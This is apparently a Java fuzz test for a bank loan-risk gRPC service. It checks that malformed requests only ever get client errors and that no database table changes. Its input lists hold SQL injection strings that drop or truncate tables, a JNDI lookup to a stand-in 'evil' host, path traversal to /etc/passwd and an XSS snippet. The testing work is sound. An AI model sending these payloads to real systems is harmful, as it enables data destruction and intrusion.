package bankrisk.loanrisk.grpc;

import static org.assertj.core.api.Assertions.assertThat;

import java.sql.SQLException;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import java.util.stream.IntStream;

import javax.sql.DataSource;

import jakarta.inject.Inject;

import org.junit.jupiter.api.Test;

import bank.common.v1.Date;
import bank.common.v1.Decimal;
import bank.common.v1.ListAuditEventsRequest;
import bank.common.v1.ListAuditEventsResponse;
import bank.common.v1.Money;
import bank.common.v1.PageRequest;
import bank.loanrisk.v1.BorrowerKind;
import bank.loanrisk.v1.CardKind;
import bank.loanrisk.v1.ClassifyPortfolioRequest;
import bank.loanrisk.v1.DecideOverrideRequest;
import bank.loanrisk.v1.GetLoanGradeRequest;
import bank.loanrisk.v1.GetLoanRequest;
import bank.loanrisk.v1.GetMigrationMatrixRequest;
import bank.loanrisk.v1.GetSnapshotRequest;
import bank.loanrisk.v1.GetSnapshotSummaryRequest;
import bank.loanrisk.v1.DecideWriteOffRequest;
import bank.loanrisk.v1.GetLoanHistoryRequest;
import bank.loanrisk.v1.ListLoanEventsRequest;
import bank.loanrisk.v1.ListLoansRequest;
import bank.loanrisk.v1.ListPendingOverridesRequest;
import bank.loanrisk.v1.ListPendingWriteOffsRequest;
import bank.loanrisk.v1.LoadLoanEventsBatch;
import bank.loanrisk.v1.LoanEvent;
import bank.loanrisk.v1.LoanEventKind;
import bank.loanrisk.v1.LoanFxRate;
import bank.loanrisk.v1.PutFxRatesRequest;
import bank.loanrisk.v1.ReconcileSnapshotsRequest;
import bank.loanrisk.v1.RecordLoanEventRequest;
import bank.loanrisk.v1.WriteOffDetails;
import bank.loanrisk.v1.LoadLoanFactsRequest;
import bank.loanrisk.v1.Loan;
import bank.loanrisk.v1.LoanCategory;
import bank.loanrisk.v1.LoanRiskService;
import bank.loanrisk.v1.LoanRiskServiceGrpc.LoanRiskServiceBlockingStub;
import bank.loanrisk.v1.OverrideProposal;
import bank.loanrisk.v1.PreCheckConsumerLoanRequest;
import bank.loanrisk.v1.PreCheckConsumerLoanResponse;
import bank.loanrisk.v1.ProposeOverrideRequest;
import bank.loanrisk.v1.RegisterLoanRequest;
import bank.loanrisk.v1.SnapshotServiceGrpc.SnapshotServiceBlockingStub;
import bank.loanrisk.v1.StreamSnapshotFlowsRequest;
import bank.loanrisk.v1.StreamSnapshotGradesRequest;
import bankrisk.api.convert.Dates;
import bankrisk.common.security.Roles;
import bankrisk.testing.TableFingerprints;
import io.grpc.Status;
import io.grpc.StatusRuntimeException;
import io.quarkus.grpc.GrpcClient;
import io.quarkus.test.junit.QuarkusTest;
import io.smallrye.mutiny.Multi;

/**
 * Hostile input: thousands of malformed requests (seeded, so a failure replays) across every RPC — wrong enums,
 * malformed and extreme decimals, dates out of range, oversized strings, messages and streams, SQL injection,
 * control characters, empty and duplicate ids, malformed resident ids. Every answer must be a client error, never
 * INTERNAL or UNKNOWN, and the database must be exactly as before (every table's row count and MD5).
 *
 * <p>Two answers are not errors by design and are checked for what they are: {@code PreCheckConsumerLoan} answers a
 * well-formed request carrying an invalid resident id with "not eligible, RESIDENT_ID_…" (ineligibility is an
 * answer), and {@code ListAuditEvents} answers a filter that is legal text (an injection string) with no events.
 */
@QuarkusTest
class HostileInputTest {

    static final long SEED = 20261129L;
    static final int PER_RPC = 250;
    static final Set<Status.Code> CLIENT_ERRORS = EnumSet.of(Status.Code.INVALID_ARGUMENT, Status.Code.NOT_FOUND,
            Status.Code.FAILED_PRECONDITION, Status.Code.ALREADY_EXISTS, Status.Code.OUT_OF_RANGE,
            Status.Code.RESOURCE_EXHAUSTED, Status.Code.ABORTED);
    static final LocalDate FACTS_DATE = LocalDate.of(2029, 1, 31);
    static final String KNOWN_LOAN = "HZ-1";
    static final String FUZZER = "fuzzer-1";
    static final LocalDate EVENT_DATE = LocalDate.of(2026, 2, 2);
    static final String KNOWN_DISBURSEMENT = "HZ-1-D";
    static final String PENDING_WRITE_OFF = "HZ-1-W";

    static final List<String> INJECTIONS = List.of("'; DROP TABLE loan; --", "1' OR '1'='1", "\" OR 1=1 --",
            "'); DELETE FROM audit_event; --", "x'; TRUNCATE snapshot_grade CASCADE; --", "${jndi:ldap://evil/x}",
            "../../etc/passwd", "<script>alert(1)</script>", "%00", "\\x27 UNION SELECT * FROM pg_user --");
    static final List<String> ODD_TEXTS = List.of("", " ", "\t\n", "a\u0000b", "\u0000", "\u0007\u001b[31mred", "\r\n\r\n",
            "\u202Eevil", "\uD800", "贷款\uD83D\uDCA5", "  HZ-1  ", "HZ 1", "Ω≈ç√∫", "\uFEFF");
    static final List<String> BAD_AMOUNTS = List.of("1e400", "NaN", "Infinity", "-Infinity", "1".repeat(60),
            "1".repeat(60) + ".00", "1.001", "0.005", "", " 1", "1,000.00", "0x10", "--1", "1e-400", "-0.001", "١٢٣",
            "1.0.0", "+-1", "9".repeat(19), ".5", "5.", "1E+3", "-1.00", "0.000000000000000000001");
    static final List<String> BAD_RATIOS = List.of("1e400", "NaN", "1".repeat(60), "abc", "1.5", "-0.1", "2", "", "1e-9999",
            "0.1234567890123", " 0.5");
    static final List<String> BAD_RESIDENT_IDS = List.of("11010519491231002Y", "110105194912310021", "11010519491331002X",
            "1101051949123100", "11010519491231002XX", "ABCDEFGHIJKLMNOPQR", "000000000000000000", "11010520991231002X",
            "11010519490231002X", "１１０１０５１９４９１２３１００２Ｘ", "x".repeat(41), "", "1101051949123100\u00002X");
    /** The first ones are well-formed requests (answered "not eligible"), the last three malformed. */
    static final int ANSWERED_RESIDENT_IDS = 10;

    @GrpcClient("loanrisk")
    LoanRiskService client;

    @GrpcClient("loanrisk")
    LoanRiskServiceBlockingStub loanRisk;

    @GrpcClient("loanrisk")
    SnapshotServiceBlockingStub snapshotService;

    @Inject
    DataSource dataSource;

    private final Random random = new Random(SEED);
    private final Map<String, Integer> tried = new TreeMap<>();
    private final Map<String, Integer> answeredByDesign = new TreeMap<>();
    private final List<String> failures = new ArrayList<>();
    private LoanRiskServiceBlockingStub fuzzer;
    private SnapshotServiceBlockingStub snapshots;
    private long pendingProposal;

    @Test
    void everyMalformedRequestIsAClientErrorAndChangesNothing() throws SQLException {
        prepareAKnownLoanWithAPendingProposal();
        Map<String, String> before = TableFingerprints.all(dataSource);

        for (int i = 0; i < PER_RPC; i++) {
            expectClientError("RegisterLoan", () -> fuzzer.registerLoan(RegisterLoanRequest.newBuilder().setLoan(badLoan()).build()));
            expectClientError("GetLoan", () -> fuzzer.getLoan(GetLoanRequest.newBuilder().setLoanId(badId()).build()));
            expectClientError("LoadLoanFacts", () -> load(badStream()));
            expectClientError("LoadLoanFactsBatches", () -> TestBook.loadInBatches(client, badStream(), () -> 1 + random.nextInt(4)));
            expectClientError("ClassifyPortfolio", () -> fuzzer.classifyPortfolio(ClassifyPortfolioRequest.newBuilder()
                    .setAsOf(random.nextInt(4) == 0 ? date(LocalDate.of(1900 + random.nextInt(120), 1 + random.nextInt(12), 1))
                            : badDate()).build()).forEachRemaining(p -> { }));
            expectClientError("GetLoanGrade", () -> fuzzer.getLoanGrade(badGradeRequest()));
            expectClientError("GetSnapshotSummary", () -> fuzzer.getSnapshotSummary(GetSnapshotSummaryRequest.newBuilder()
                    .setSnapshotId(badSnapshotId()).build()));
            expectClientError("GetMigrationMatrix", () -> fuzzer.getMigrationMatrix(GetMigrationMatrixRequest.newBuilder()
                    .setFromSnapshotId(badSnapshotId()).setToSnapshotId(badSnapshotId()).build()));
            expectClientError("ProposeOverride", () -> fuzzer.proposeOverride(badProposal()));
            expectClientError("ApproveOverride", () -> fuzzer.approveOverride(badDecision()));
            expectClientError("RejectOverride", () -> fuzzer.rejectOverride(badDecision()));
            listAuditEvents();
            preCheck();
            expectClientError("GetSnapshot", () -> snapshots.getSnapshot(GetSnapshotRequest.newBuilder()
                    .setAsOf(random.nextBoolean() ? badDate() : date(LocalDate.of(1901 + random.nextInt(100), 6, 30))).build()));
            expectClientError("StreamSnapshotGrades", () -> snapshots.streamSnapshotGrades(StreamSnapshotGradesRequest.newBuilder()
                    .setSnapshotId(badSnapshotId()).build()).forEachRemaining(g -> { }));
            expectClientError("StreamSnapshotGradeBatches", () -> snapshots.streamSnapshotGradeBatches(StreamSnapshotGradesRequest
                    .newBuilder().setSnapshotId(badSnapshotId()).build()).forEachRemaining(b -> { }));
            expectClientError("StreamSnapshotFlows", () -> snapshots.streamSnapshotFlows(StreamSnapshotFlowsRequest.newBuilder()
                    .setFromSnapshotId(badSnapshotId()).setToSnapshotId(badSnapshotId()).build()).forEachRemaining(b -> { }));
            expectClientError("RecordLoanEvent", () -> fuzzer.recordLoanEvent(RecordLoanEventRequest.newBuilder()
                    .setEvent(badEvent()).build()));
            expectClientError("LoadLoanEvents", () -> loadEvents(badEventStream()));
            expectClientError("ListLoanEvents", () -> fuzzer.listLoanEvents(random.nextBoolean()
                    ? ListLoanEventsRequest.newBuilder().setLoanId(random.nextBoolean() ? badId() : "HZ-UNKNOWN-1").build()
                    : ListLoanEventsRequest.newBuilder().setLoanId(KNOWN_LOAN).setPage(badPage()).build()));
            expectClientError("ApproveWriteOff", () -> fuzzer.approveWriteOff(badWriteOffDecision()));
            expectClientError("RejectWriteOff", () -> fuzzer.rejectWriteOff(badWriteOffDecision()));
            expectClientError("ListPendingWriteOffs", () -> fuzzer.listPendingWriteOffs(ListPendingWriteOffsRequest.newBuilder()
                    .setPage(badPage()).build()));
            expectClientError("ListPendingOverrides", () -> fuzzer.listPendingOverrides(ListPendingOverridesRequest.newBuilder()
                    .setPage(badPage()).build()));
            expectClientError("ListLoans", () -> fuzzer.listLoans(badLoanList()));
            expectClientError("GetLoanHistory", () -> fuzzer.getLoanHistory(GetLoanHistoryRequest.newBuilder()
                    .setLoanId(random.nextBoolean() ? badId() : "HZ-UNKNOWN-" + random.nextInt(100)).build()));
            expectClientError("PutFxRates", () -> fuzzer.putFxRates(badFxRates()));
            expectClientError("ReconcileSnapshots", () -> fuzzer.reconcileSnapshots(ReconcileSnapshotsRequest.newBuilder()
                    .setFromSnapshotId(badSnapshotId()).setToSnapshotId(badSnapshotId()).build()));
        }
        expectClientError("LoadLoanFacts", () -> load(oversizedStream()));
        expectClientError("RegisterLoan", () -> fuzzer.registerLoan(RegisterLoanRequest.newBuilder()
                .setLoan(validLoan("HZ-BIG").setBranchCode("B".repeat(5 * 1024 * 1024))).build()));

        int total = tried.values().stream().mapToInt(Integer::intValue).sum();
        System.out.printf("HostileInputTest (seed %d): %,d malformed requests: %s; answered by design, not errors: %s%n", SEED, total,
                tried, answeredByDesign);
        assertThat(failures).as("answers that were not client errors").isEmpty();
        assertThat(TableFingerprints.all(dataSource)).isEqualTo(before);
        assertThat(total).isGreaterThanOrEqualTo(3000);
        assertThat(tried).hasSize(28);
    }

    private void prepareAKnownLoanWithAPendingProposal() {
        client = TestBook.as(client, FUZZER, Roles.RISK_OFFICER);
        TestBook.load(client, List.of(LoadLoanFactsRequest.newBuilder().setLoanId(KNOWN_LOAN).setAsOf(date(FACTS_DATE))
                .setLoan(validLoan(KNOWN_LOAN)).setOutstandingBalance(TestBook.cny("1000.00")).setCollateralValue(TestBook.cny("0"))));
        fuzzer = TestBook.as(loanRisk, FUZZER, Roles.RISK_OFFICER, Roles.RISK_APPROVER, Roles.AUDITOR, Roles.SERVICE);
        snapshots = TestBook.as(snapshotService, FUZZER, Roles.SERVICE);
        OverrideProposal pending = fuzzer.proposeOverride(ProposeOverrideRequest.newBuilder().setLoanId(KNOWN_LOAN)
                .setCategory(LoanCategory.LOAN_CATEGORY_LOSS).setReason("fuzz fixture").setEffectiveFrom(date(FACTS_DATE)).build());
        pendingProposal = pending.getProposalId();
        // The loan's events: 1,000.00 drawn and a write-off of 100.00 the fuzzer proposed (so it may not decide it).
        fuzzer.recordLoanEvent(RecordLoanEventRequest.newBuilder().setEvent(EventsTestBook.disbursement(KNOWN_DISBURSEMENT,
                KNOWN_LOAN, EVENT_DATE, "1000.00")).build());
        fuzzer.recordLoanEvent(RecordLoanEventRequest.newBuilder().setEvent(EventsTestBook.writeOff(PENDING_WRITE_OFF, KNOWN_LOAN,
                EVENT_DATE.plusDays(1), "100.00")).build());
    }

    private void expectClientError(String rpc, Runnable call) {
        tried.merge(rpc, 1, Integer::sum);
        try {
            call.run();
            failures.add(rpc + ": answered OK");
        } catch (StatusRuntimeException e) {
            if (!CLIENT_ERRORS.contains(e.getStatus().getCode())) {
                failures.add(rpc + ": " + e.getStatus().getCode() + " " + e.getStatus().getDescription());
            }
        }
    }

    private void listAuditEvents() {
        ListAuditEventsRequest.Builder request = ListAuditEventsRequest.newBuilder();
        boolean legalText = false;
        switch (random.nextInt(5)) {
            case 0 -> request.setPage(PageRequest.newBuilder().setPageSize(pick(List.of(-1, 1001, Integer.MAX_VALUE, Integer.MIN_VALUE))));
            case 1 -> request.setPage(PageRequest.newBuilder().setPageToken(pick(List.of("x", "-1", "9".repeat(40), "'; DROP TABLE x",
                    "\u0000", "bm90LWEtdG9rZW4=", " ", "%%%"))));
            case 2 -> request.setSubject(random.nextBoolean() ? "s".repeat(10_000) : "loan/\u0000");
            case 3 -> request.setActor(random.nextBoolean() ? "a".repeat(10_000) : "\u0000" + FUZZER);
            default -> {
                legalText = true;
                request.setSubject(pick(INJECTIONS)).setAction(pick(INJECTIONS));
            }
        }
        if (!legalText) {
            expectClientError("ListAuditEvents", () -> fuzzer.listAuditEvents(request.build()));
            return;
        }
        tried.merge("ListAuditEvents", 1, Integer::sum);
        try {
            ListAuditEventsResponse response = fuzzer.listAuditEvents(request.build());
            answeredByDesign.merge("ListAuditEvents: no events for an injection filter", 1, Integer::sum);
            if (response.getEventsCount() != 0) {
                failures.add("ListAuditEvents: an injection filter " + request.getSubject() + " matched events");
            }
        } catch (StatusRuntimeException e) {
            if (!CLIENT_ERRORS.contains(e.getStatus().getCode())) {
                failures.add("ListAuditEvents: " + e.getStatus().getCode() + " " + e.getStatus().getDescription());
            }
        }
    }

    private void preCheck() {
        PreCheckConsumerLoanRequest.Builder request = PreCheckConsumerLoanRequest.newBuilder().setApplicantName("Wang Fang")
                .setResidentId("11010519491231002X").setApplicationDate(date(LocalDate.of(2004, 12, 31)))
                .setCardKind(CardKind.CARD_KIND_DEBIT).setCardHolderName("Wang Fang");
        boolean onlyTheResidentId = random.nextInt(3) == 0;
        if (onlyTheResidentId) {
            request.setResidentId(pick(BAD_RESIDENT_IDS.subList(0, ANSWERED_RESIDENT_IDS)));
        } else {
            mutate(request, List.<UnaryOperator<PreCheckConsumerLoanRequest.Builder>> of(
                    r -> r.setApplicantName(badText()),
                    r -> r.setResidentId(pick(BAD_RESIDENT_IDS.subList(ANSWERED_RESIDENT_IDS, BAD_RESIDENT_IDS.size()))),
                    r -> r.setApplicationDate(badDate()),
                    r -> r.setCardKindValue(pick(List.of(0, 999, -1))),
                    r -> r.setCardHolderName(badText()),
                    r -> r.setIdDocumentKindValue(pick(List.of(999, -1, 4))),
                    r -> r.setIdValidUntil(badDate())));
        }
        if (!onlyTheResidentId) {
            expectClientError("PreCheckConsumerLoan", () -> fuzzer.preCheckConsumerLoan(request.build()));
            return;
        }
        tried.merge("PreCheckConsumerLoan", 1, Integer::sum);
        try {
            PreCheckConsumerLoanResponse response = fuzzer.preCheckConsumerLoan(request.build());
            answeredByDesign.merge("PreCheckConsumerLoan: not eligible, RESIDENT_ID_*", 1, Integer::sum);
            if (response.getEligible() || response.getReasonsList().stream().noneMatch(r -> r.startsWith("RESIDENT_ID_"))) {
                failures.add("PreCheckConsumerLoan: resident id " + request.getResidentId() + " answered " + response);
            }
        } catch (StatusRuntimeException e) {
            if (!CLIENT_ERRORS.contains(e.getStatus().getCode())) {
                failures.add("PreCheckConsumerLoan: " + e.getStatus().getCode() + " " + e.getStatus().getDescription());
            }
        }
    }

    // ---- malformed requests: a valid base with one to three faults, each of which alone must be refused ----

    private Loan badLoan() {
        Loan.Builder loan = validLoan(random.nextInt(4) == 0 ? KNOWN_LOAN : "HZ-NEW-" + random.nextInt(1000));
        if (loan.getLoanId().equals(KNOWN_LOAN) && random.nextBoolean()) {
            return loan.build(); // a duplicate id: ALREADY_EXISTS
        }
        return mutate(loan, loanFaults()).build();
    }

    private List<UnaryOperator<Loan.Builder>> loanFaults() {
        return List.of(
                l -> l.setLoanId(badId()),
                l -> l.setBorrowerCustomerNumber(badId()),
                l -> l.setBorrowerKindValue(pick(List.of(0, 999, -1))),
                l -> l.setProductValue(pick(List.of(0, 999, Integer.MAX_VALUE))),
                l -> l.setCollateralKindValue(pick(List.of(0, 999))),
                l -> l.setBranchCode(pick(List.of("x".repeat(10_000), "", "SH 001", "'; DROP TABLE loan; --"))),
                l -> l.setPrincipal(badMoney()),
                l -> l.setOutstandingBalance(badMoney()),
                l -> l.setCollateralValue(badMoney()),
                l -> l.setPrincipal(TestBook.cny("0.00")),
                l -> l.setOriginationDate(badDate()),
                l -> l.setMaturityDate(badDate()),
                l -> l.setMaturityDate(date(LocalDate.of(2021, 12, 31))),
                l -> l.setCollateralValue(TestBook.cny("10.00")), // unsecured with collateral value
                l -> l.clearPrincipal(),
                // The contract terms for ECL (issue 13 item 5), each optional but checked when present.
                l -> l.setContractualInterestRate(Decimal.newBuilder().setValue(pick(BAD_RATIOS))),
                l -> l.setRepaymentMethodValue(pick(List.of(999, -1, Integer.MAX_VALUE))),
                l -> l.setUndrawnCommitment(badMoney()),
                l -> l.setCategoryAtOriginationValue(pick(List.of(6, 999, -1))));
    }

    private LoadLoanFactsRequest.Builder validFacts() {
        return LoadLoanFactsRequest.newBuilder().setLoanId(KNOWN_LOAN).setAsOf(date(FACTS_DATE.plusDays(random.nextInt(300))))
                .setOutstandingBalance(TestBook.cny("900.00")).setCollateralValue(TestBook.cny("0"));
    }

    private List<LoadLoanFactsRequest> badStream() {
        List<LoadLoanFactsRequest> rows = new ArrayList<>();
        int size = 1 + random.nextInt(5);
        for (int i = 0; i < size; i++) {
            rows.add(validFacts().build());
        }
        int faults = 1 + random.nextInt(2);
        for (int f = 0; f < faults; f++) {
            int at = random.nextInt(rows.size());
            switch (random.nextInt(4)) {
                case 0 -> rows.add(rows.get(at)); // the same loan and date twice
                case 1 -> rows.set(at, rows.get(at).toBuilder().setLoanId("HZ-UNKNOWN-" + random.nextInt(100)).build());
                case 2 -> rows.set(at, rows.get(at).toBuilder().setLoan(mutate(validLoan(rows.get(at).getLoanId()), loanFaults())).build());
                default -> rows.set(at, mutate(rows.get(at).toBuilder(), factFaults()).build());
            }
        }
        return rows;
    }

    private List<UnaryOperator<LoadLoanFactsRequest.Builder>> factFaults() {
        return List.of(
                r -> r.setLoanId(badId()),
                r -> r.setAsOf(badDate()),
                r -> r.clearAsOf(),
                r -> r.setOutstandingBalance(badMoney()),
                r -> r.setCollateralValue(badMoney()),
                r -> r.setOutstandingBalance(TestBook.cny("-5.00")),
                r -> r.setDaysPastDuePrincipal(pick(List.of(-1, 36501, Integer.MAX_VALUE, Integer.MIN_VALUE))),
                r -> r.setDaysPastDueInterest(pick(List.of(-1, 36501, Integer.MAX_VALUE))),
                r -> r.setEclRatio(Decimal.newBuilder().setValue(pick(BAD_RATIOS))),
                r -> r.setOverdueElsewhereShare(Decimal.newBuilder().setValue(pick(BAD_RATIOS))),
                r -> r.setRestructuredOn(badDate()),
                r -> r.setObservationEnd(badDate()),
                r -> r.setArrearsClearedOn(badDate()),
                r -> r.setRestructuredOn(date(FACTS_DATE)), // restructured without an observation end
                r -> r.setConsecutiveOnTimePeriods(pick(List.of(-1, Integer.MIN_VALUE))));
    }

    private List<LoadLoanFactsRequest> oversizedStream() {
        LoadLoanFactsRequest row = validFacts().setAsOf(date(FACTS_DATE)).build();
        return IntStream.rangeClosed(0, 100_000).mapToObj(i -> row).toList();
    }

    private GetLoanGradeRequest badGradeRequest() {
        return switch (random.nextInt(3)) {
            case 0 -> GetLoanGradeRequest.newBuilder().setLoanId(badId()).build();
            case 1 -> GetLoanGradeRequest.newBuilder().setLoanId(KNOWN_LOAN).setAsOf(badDate()).build();
            default -> GetLoanGradeRequest.newBuilder().setLoanId(KNOWN_LOAN)
                    .setAsOf(date(FACTS_DATE.minusDays(1 + random.nextInt(10_000)))).build(); // NO_FACTS
        };
    }

    private ProposeOverrideRequest badProposal() {
        ProposeOverrideRequest.Builder proposal = ProposeOverrideRequest.newBuilder().setLoanId(KNOWN_LOAN)
                .setCategory(LoanCategory.LOAN_CATEGORY_DOUBTFUL).setReason("fuzz").setEffectiveFrom(date(FACTS_DATE));
        if (random.nextInt(5) == 0) {
            return proposal.build(); // the loan has a pending proposal: PROPOSAL_PENDING
        }
        return mutate(proposal, List.<UnaryOperator<ProposeOverrideRequest.Builder>> of(
                p -> p.setLoanId(badId()),
                p -> p.setLoanId("HZ-UNKNOWN-" + random.nextInt(100)),
                p -> p.setCategoryValue(pick(List.of(0, 999, -7))),
                p -> p.setReason(badText()),
                p -> p.setEffectiveFrom(badDate()),
                p -> p.setEffectiveFrom(date(FACTS_DATE.minusDays(1))))).build();
    }

    private DecideOverrideRequest badDecision() {
        DecideOverrideRequest.Builder decision = DecideOverrideRequest.newBuilder()
                .setProposalId(pick(List.of(0L, -1L, Long.MIN_VALUE, Long.MAX_VALUE, 1L + random.nextInt(1_000_000) + 10_000_000L,
                        pendingProposal)));
        switch (random.nextInt(3)) {
            case 0 -> decision.setComment("c".repeat(1001 + random.nextInt(10_000)));
            case 1 -> decision.setComment(pick(INJECTIONS));
            default -> decision.setComment(badText());
        }
        return decision.build(); // the pending proposal is the fuzzer's own: SAME_PERSON
    }

    private LoanEvent badEvent() {
        LoanEvent.Builder event = EventsTestBook.repayment("HZ-E-" + random.nextInt(1000), KNOWN_LOAN, EVENT_DATE.plusDays(2), "10.00");
        if (random.nextInt(10) == 0) {
            // The fixture's id with other content: ALREADY_EXISTS.
            return EventsTestBook.disbursement(KNOWN_DISBURSEMENT, KNOWN_LOAN, EVENT_DATE, "1000.01").build();
        }
        return mutate(event, List.<UnaryOperator<LoanEvent.Builder>> of(
                e -> e.setEventId(badId()),
                e -> e.setLoanId(badId()),
                e -> e.setLoanId("HZ-UNKNOWN-" + random.nextInt(100)),
                e -> e.setKindValue(pick(List.of(0, 999, -1))),
                e -> e.setEffectiveDate(badDate()),
                e -> e.setEffectiveDate(date(LocalDate.of(2021, 12, 31))), // before the origination 2022-01-01
                e -> e.setEffectiveDate(date(LocalDate.now().plusDays(2 + random.nextInt(1000)))), // in the future
                e -> e.setAmount(badMoney()),
                e -> e.setAmount(TestBook.cny(pick(List.of("0", "0.00", "-10.00", "900.01", "100000000.00")))), // 900.00 left
                e -> e.setAmount(EventsTestBook.money("10.00", pick(List.of("USD", "XYZ", "", "cny")))),
                e -> e.clearAmount(),
                e -> e.setWriteOff(WriteOffDetails.newBuilder().setApprovalReference("x")),
                e -> e.setKind(LoanEventKind.LOAN_EVENT_KIND_RECOVERY), // never written off (the write-off is pending)
                e -> e.setKind(LoanEventKind.LOAN_EVENT_KIND_TRANSFER), // without its details
                e -> e.setKind(LoanEventKind.LOAN_EVENT_KIND_WRITE_OFF).setWriteOff(WriteOffDetails.newBuilder()
                        .setApprovalReference(badText())))).build();
    }

    private List<LoadLoanEventsBatch> badEventStream() {
        List<LoadLoanEventsBatch> batches = new ArrayList<>();
        int size = 1 + random.nextInt(4);
        int bad = random.nextInt(size);
        for (int i = 0; i < size; i++) {
            batches.add(LoadLoanEventsBatch.newBuilder().addEvents(i == bad ? badEvent()
                    : EventsTestBook.repayment("HZ-S-" + random.nextInt(1000) + "-" + i, KNOWN_LOAN, EVENT_DATE.plusDays(3), "1.00")
                            .build()).build());
        }
        return batches;
    }

    private DecideWriteOffRequest badWriteOffDecision() {
        DecideWriteOffRequest.Builder decision = DecideWriteOffRequest.newBuilder().setEventId(pick(List.of(PENDING_WRITE_OFF,
                KNOWN_DISBURSEMENT, "HZ-NO-SUCH-EVENT", badId())));
        if (random.nextBoolean()) {
            decision.setComment(badText());
        }
        return decision.build(); // the fuzzer's own (SAME_PERSON), not a write-off, unknown, malformed
    }

    private PageRequest badPage() {
        return random.nextBoolean() ? PageRequest.newBuilder().setPageSize(pick(List.of(-1, 1001, Integer.MAX_VALUE))).build()
                : PageRequest.newBuilder().setPageToken(pick(List.of("x", "9".repeat(40), "'; DROP TABLE x", "\u0000"))).build();
    }

    private ListLoansRequest badLoanList() {
        return mutate(ListLoansRequest.newBuilder(), List.<UnaryOperator<ListLoansRequest.Builder>> of(
                r -> r.setPage(badPage()),
                r -> r.setCategory(LoanCategory.LOAN_CATEGORY_LOSS).setCategoryInSnapshotId(badSnapshotId()),
                r -> r.setCategory(LoanCategory.LOAN_CATEGORY_LOSS).clearCategoryInSnapshotId(),
                r -> r.setCategoryValue(999).setCategoryInSnapshotId(java.util.UUID.randomUUID().toString()),
                r -> r.setProductValue(pick(List.of(999, -1))),
                r -> r.setBranchCode(pick(List.of("x".repeat(10_000), "a\u0000b", "SH\n001"))),
                r -> r.setBorrowerCustomerNumber("P".repeat(33 + random.nextInt(1000))),
                r -> r.setCurrencyCode(pick(List.of("cny", "XYZ", "€", "CNYX"))))).build();
    }

    private PutFxRatesRequest badFxRates() {
        if (random.nextInt(10) == 0) {
            return PutFxRatesRequest.getDefaultInstance(); // no rates
        }
        LoanFxRate.Builder rate = LoanFxRate.newBuilder().setCurrencyCode("USD").setRateDate(date(EVENT_DATE))
                .setRate(Decimal.newBuilder().setValue("7.10250000"));
        return PutFxRatesRequest.newBuilder().addRates(mutate(rate, List.<UnaryOperator<LoanFxRate.Builder>> of(
                r -> r.setCurrencyCode(pick(List.of("CNY", "XYZ", "", "usd", "U\u0000D"))),
                r -> r.setRateDate(badDate()),
                r -> r.clearRateDate(),
                r -> r.setRate(Decimal.newBuilder().setValue(pick(List.of("0", "-7.1", "abc", "7.123456789", "", "NaN", "1e400")))))))
                .build();
    }

    private void loadEvents(List<LoadLoanEventsBatch> batches) {
        client.loadLoanEvents(Multi.createFrom().iterable(batches)).await().atMost(Duration.ofMinutes(2));
    }

    // ---- malformed values ----

    private String badText() {
        return switch (random.nextInt(4)) {
            case 0 -> "x".repeat(1001 + random.nextInt(9_000));
            case 1 -> pick(ODD_TEXTS.subList(0, 3));
            case 2 -> "a\u0000b";
            default -> "\u0007\u001b[31m" + pick(INJECTIONS);
        };
    }

    private String badId() {
        return switch (random.nextInt(3)) {
            case 0 -> pick(INJECTIONS);
            case 1 -> pick(ODD_TEXTS);
            default -> "L".repeat(41 + random.nextInt(10_000));
        };
    }

    private String badSnapshotId() {
        return switch (random.nextInt(4)) {
            case 0 -> pick(INJECTIONS);
            case 1 -> pick(ODD_TEXTS);
            case 2 -> java.util.UUID.randomUUID().toString(); // well-formed, unknown
            default -> "0".repeat(random.nextInt(10_000));
        };
    }

    private Money badMoney() {
        Money.Builder money = Money.newBuilder().setAmount(pick(BAD_AMOUNTS)).setCurrencyCode("CNY");
        if (random.nextInt(4) == 0) {
            money.setAmount("10.00").setCurrencyCode(pick(List.of("", "cny", "CNYX", "USD", "€", "C\u0000Y")));
        }
        return money.build();
    }

    private Date badDate() {
        return switch (random.nextInt(10)) {
            case 0 -> Date.newBuilder().setYear(2024).setMonth(13).setDay(1).build();
            case 1 -> Date.newBuilder().setYear(2024).setMonth(0).setDay(1).build();
            case 2 -> Date.newBuilder().setYear(2024).setMonth(1).setDay(0).build();
            case 3 -> Date.newBuilder().setYear(2024).setMonth(1).setDay(32).build();
            case 4 -> Date.newBuilder().setYear(2023).setMonth(2).setDay(29).build();
            case 5 -> Date.newBuilder().setYear(0).setMonth(1).setDay(1).build();
            case 6 -> Date.newBuilder().setYear(-5).setMonth(6).setDay(15).build();
            case 7 -> Date.newBuilder().setYear(10_000).setMonth(1).setDay(1).build();
            case 8 -> Date.newBuilder().setYear(Integer.MAX_VALUE).setMonth(Integer.MIN_VALUE).setDay(Integer.MAX_VALUE).build();
            default -> Date.newBuilder().setYear(1899).setMonth(12).setDay(31).build();
        };
    }

    private Loan.Builder validLoan(String loanId) {
        return TestBook.loan(loanId, "P-" + loanId, BorrowerKind.BORROWER_KIND_RETAIL).toBuilder();
    }

    private static Date date(LocalDate date) {
        return Dates.toDate(date);
    }

    private <T> T mutate(T builder, List<UnaryOperator<T>> faults) {
        T out = builder;
        int count = 1 + random.nextInt(3);
        for (int i = 0; i < count; i++) {
            out = pick(faults).apply(out);
        }
        return out;
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private void load(List<LoadLoanFactsRequest> rows) {
        client.loadLoanFacts(Multi.createFrom().iterable(rows)).await().atMost(Duration.ofMinutes(2));
    }

}
